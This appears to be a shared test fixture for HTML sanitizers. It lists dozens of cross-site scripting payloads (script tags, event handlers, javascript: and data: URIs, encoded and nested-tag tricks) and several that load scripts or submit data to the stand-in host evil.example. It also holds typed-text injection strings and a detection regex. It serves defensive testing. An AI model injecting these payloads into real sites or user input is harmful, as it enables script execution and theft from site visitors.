// The XSS corpus of the rich-text cleaners' tests (marketplace descriptions, blog posts) and of
// every test that puts people's text on a page: shared so each field meets the same attacks.

/** Markup that runs something, or loads something from elsewhere, if it survives. */
export const XSS_CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="https://evil.example/track.png">',
  '<img src="/api/uploads/../auth/logout">',
  '<img/src="x"/onerror="alert(1)">',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/relative">x</a>',
  '<span style="background-image:url(javascript:alert(1))">x</span>',
  '<span style="color:red;background:url(https://evil.example/x)">x</span>',
  '<span style="color: expression(alert(1))">x</span>',
  '<span style="position:fixed;top:0;left:0;width:100%;height:100%">x</span>',
  '<p style="color:red">x</p>',
  '<div onmouseover="alert(1)">x</div>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<template><img src=x onerror=alert(1)></template>',
  '<p id="x" class="y" data-x="1" title="t">x</p>',
];

/**
 * What people type into plain-text fields (names, titles, reasons) that must come back exactly as
 * typed, as data: markup, a script URL, template syntax, a closing tag, a bidi override.
 */
export const TYPED_TEXT_CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "javascript:alert('x')",
  '{{constructor.constructor("alert(1)")()}}',
  '</textarea><iframe src="javascript:alert(1)">',
  '\u202e<b>mirror</b>',
];

/** Nothing that runs, loads or frames: tags, attributes and schemes outside the list. */
export const EXECUTABLE =
  /<(?:script|svg|math|iframe|object|embed|form|input|button|meta|link|style|base|details|video|source|noscript|template|div)\b|\son\w+\s*=|javascript:|vbscript:|data:text|data:image\/svg|expression\(|url\(|srcdoc|evil\.example|<!--|position:|\sid=|\sclass=|\sdata-|\stitle=/i;
